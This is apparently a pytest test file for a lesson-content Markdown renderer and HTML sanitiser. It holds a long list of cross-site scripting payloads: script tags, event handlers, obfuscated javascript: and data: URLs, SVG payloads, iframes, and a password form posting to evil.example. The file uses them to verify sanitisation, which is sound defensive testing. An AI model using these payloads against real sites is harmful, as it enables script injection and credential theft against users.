"""Lesson text: Markdown rendered to sanitised HTML (catalog/content.py).

Every hostile input below goes through both layers on its own: the Markdown renderer
(raw HTML off, then the sanitiser) and the sanitiser alone (as if a parser had let the
markup through). The output is parsed and every element, attribute and URL checked
against the allow-list, so a payload that survived in any spelling would fail.
"""

from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from catalog import content
from catalog.content import highlight_stylesheet, html_sanitise, markdown_render

URL_ATTRIBUTES = {"href", "src"}
# What the sanitiser adds itself: rel on links.
# Set by the sanitiser itself: links' rel, and code blocks focusable (they may scroll).
ADDED_ATTRIBUTES = {"a": {"rel"}, "pre": {"tabindex"}}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" onload=alert(2)>',
    "<body onload=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(2)>x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)">'
    "<text>x</text></a></svg>",
    "<svg onload=alert(1)><animate onbegin=alert(2) attributeName=x></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '[a](https://ok.example "x" onmouseover="alert(1)")',
    "[[inner](javascript:alert(1))](https://ok.example)",
    "[outer [inner](https://a.example)](javascript:alert(1))",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx = 1\n```',
    "```python onclick=alert(1)\nx = 1\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    '<p class="site-header" id="main">impostor</p>',
    '<span class="k another">x</span>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
]


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_safe(html: str) -> None:
    """Only allowed elements and attributes, no handler or style, safe URLs only."""
    for tag, attributes in elements(html):
        assert tag in content.ALLOWED_TAGS, (tag, html)
        allowed = (
            content.ALLOWED_ATTRIBUTES.get(tag, set())
            | ADDED_ATTRIBUTES.get(tag, set())
            | ({"class"} if tag in ("span", "pre", "code") else set())
        )
        assert set(attributes) <= allowed, (tag, attributes, html)
        for name, value in attributes.items():
            assert not name.startswith("on"), html
            if name in URL_ATTRIBUTES:
                scheme = urlsplit((value or "").strip()).scheme.lower()
                assert scheme in ("", "http", "https", "mailto"), (value, html)
                # A relative URL never hides a scheme behind control characters.
                assert not any(ord(char) < 0x20 for char in value or ""), html
            if name == "class":
                allowed_classes = content._code_classes()[tag]
                assert set((value or "").split()) <= allowed_classes, (value, html)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_to_safe_html(source):
    assert_safe(markdown_render(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_the_sanitiser_alone_removes_hostile_markup(source):
    assert_safe(html_sanitise(source))


def test_the_list_would_catch_what_it_is_meant_to():
    # The checks themselves fail on unsanitised markup (so passing means something).
    for raw in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<p style="color:red">x</p>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    ):
        with pytest.raises(AssertionError):
            assert_safe(raw)


def test_raw_html_in_markdown_is_shown_as_text_not_run():
    html = markdown_render("Before <script>alert(1)</script> after")
    assert html == "<p>Before &lt;script&gt;alert(1)&lt;/script&gt; after</p>\n"


def test_dangerous_link_targets_are_not_links():
    for source in ("[click](javascript:alert(1))", "[click](&#106;avascript:alert(1))"):
        html = markdown_render(source)
        assert "<a" not in html, html
    html = markdown_render("![x](data:image/png;base64,iVBORw0KGgo=)")
    assert elements(html) == [("p", {}), ("img", {"alt": "x"})]


def test_safe_links_keep_their_target_and_get_rel():
    html = markdown_render("[docs](https://docs.example/x?a=1&b=2) and [mail](mailto:a@b.example)")
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert links == [
        {"href": "https://docs.example/x?a=1&b=2", "rel": "noopener noreferrer nofollow"},
        {"href": "mailto:a@b.example", "rel": "noopener noreferrer nofollow"},
    ]


def test_nested_links_do_not_nest_or_leak_the_bad_target():
    html = markdown_render("[outer [inner](https://a.example)](javascript:alert(1))")
    assert [attrs.get("href") for tag, attrs in elements(html) if tag == "a"] == [
        "https://a.example"
    ]


def test_markdown_features_render():
    source = (
        "# Title\n\n## Section\n\nSome *emphasis*, **strong**, `code` and ~~old~~.\n\n"
        "- one\n- two\n\n3. three\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n"
    )
    tags = [tag for tag, _ in elements(markdown_render(source))]
    # `#` becomes <h2> (the page's title is its <h1>); `##` stays <h2>.
    assert tags[:2] == ["h2", "h2"]
    for tag in ("em", "strong", "code", "s", "ul", "li", "ol", "blockquote", "table", "td", "hr"):
        assert tag in tags, tag
    assert 'start="3"' in markdown_render("3. three\n4. four")


def test_code_blocks_are_highlighted_with_classes_only():
    html = markdown_render("```python\ndef f(x):\n    return x + 1  # one more\n```")
    found = elements(html)
    assert found[0] == ("pre", {"class": "highlight", "tabindex": "0"})
    assert found[1] == ("code", {"class": "language-python"})
    spans = [attrs["class"] for tag, attrs in found if tag == "span"]
    assert "k" in spans and "nf" in spans and "c1" in spans  # keyword, function, comment
    assert "style" not in html
    assert '<span class="k">def</span>' in html


def test_a_code_block_is_focusable_whatever_its_author_wrote():
    # A wide block scrolls sideways on a phone: a keyboard must reach it to scroll.
    for source in ("```\nx = 1\n```", "    indented = True", "<pre tabindex=-1>x</pre>"):
        html = markdown_render(source)
        assert ("pre", {"tabindex": "0"}) in elements(html) or "<pre" not in html, html
    assert html_sanitise('<pre tabindex="-1" onfocus="x()">x</pre>') == '<pre tabindex="0">x</pre>'


def test_unknown_languages_are_escaped_plain_text():
    html = markdown_render("```nosuchlanguage\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html
    assert elements(html) == [("pre", {"tabindex": "0"}), ("code", {})]


def test_empty_text_renders_nothing():
    assert markdown_render("") == ""
    assert markdown_render("  \n\t") == ""


def test_the_shipped_stylesheet_is_the_generated_one():
    path = Path(__file__).resolve().parents[2] / "catalog/static" / content.HIGHLIGHT_STYLESHEET
    assert path.read_text() == highlight_stylesheet(), (
        "catalog/static/catalog/highlight.css is out of date: write "
        "catalog.content.highlight_stylesheet() into it"
    )
    css = highlight_stylesheet()
    assert ".highlight .k {" in css
    # Scoped to code blocks: no rule for the page's own elements.
    assert all(line.startswith((".highlight", "/*", "   ")) for line in css.splitlines() if line)
